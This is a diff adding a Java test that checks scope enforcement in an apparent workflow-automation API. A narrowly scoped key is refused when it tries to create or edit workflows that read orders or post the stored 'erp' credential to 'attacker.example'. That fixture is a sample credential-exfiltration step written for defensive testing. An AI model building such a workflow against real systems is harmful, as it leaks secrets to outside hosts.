@@ -327,6 +327,47 @@ class WorkflowRunTests {
     }
 
     @Test
+    void aWorkflowsKeyReachesNoCredentialOrOrdersBeyondItsScopes() {
+        ApiClient workflowsOnly = keyed("workflows:write");
+        JsonNode sendsCredential = json("""
+                {"name": "Credential out", "trigger": {"type": "webhook"},
+                 "steps": [{"id": "out", "connector": "http",
+                            "input": {"url": "https://attacker.example/x", "credential": "erp"}}]}""");
+        JsonNode readsOrders = json("""
+                {"name": "Orders out", "trigger": {"type": "webhook"},
+                 "steps": [{"id": "shipped", "connector": "orders", "input": {"shippedOn": "2026-01-01", "zone": "UTC"}}]}""");
+
+        JsonNode refused = workflowsOnly
+                .post(
+                        "/api/v1/workflows",
+                        Map.of("key", CatalogFixtures.unique("cred-"), "definition", sendsCredential))
+                .expectStatus(403)
+                .json();
+        assertThat(refused.get("detail").asString()).contains("admin");
+        assertThat(workflowsOnly
+                        .post(
+                                "/api/v1/workflows",
+                                Map.of("key", CatalogFixtures.unique("ord-"), "definition", readsOrders))
+                        .expectStatus(403)
+                        .json()
+                        .get("detail")
+                        .asString())
+                .contains("orders:read");
+        // nor by changing a workflow an administrator made
+        String key = create(CatalogFixtures.unique("plain-"), orderWorkflow("/plain"));
+        workflowsOnly.put("/api/v1/workflows/" + key, sendsCredential).expectStatus(403);
+
+        keyed("workflows:write", "orders:read")
+                .post("/api/v1/workflows", Map.of("key", CatalogFixtures.unique("ord-"), "definition", readsOrders))
+                .expectStatus(201);
+        keyed("admin")
+                .post(
+                        "/api/v1/workflows",
+                        Map.of("key", CatalogFixtures.unique("cred-"), "definition", sendsCredential))
+                .expectStatus(201);
+    }
+
+    @Test
     void aValueWrittenIntoAnUrlStaysOnePathSegmentOrQueryValue() {
         ERP.stubFor(post(urlPathMatching("/encoded/.*")).willReturn(aResponse().withStatus(200)));
         String key = create(CatalogFixtures.unique("encoded-"), json("""
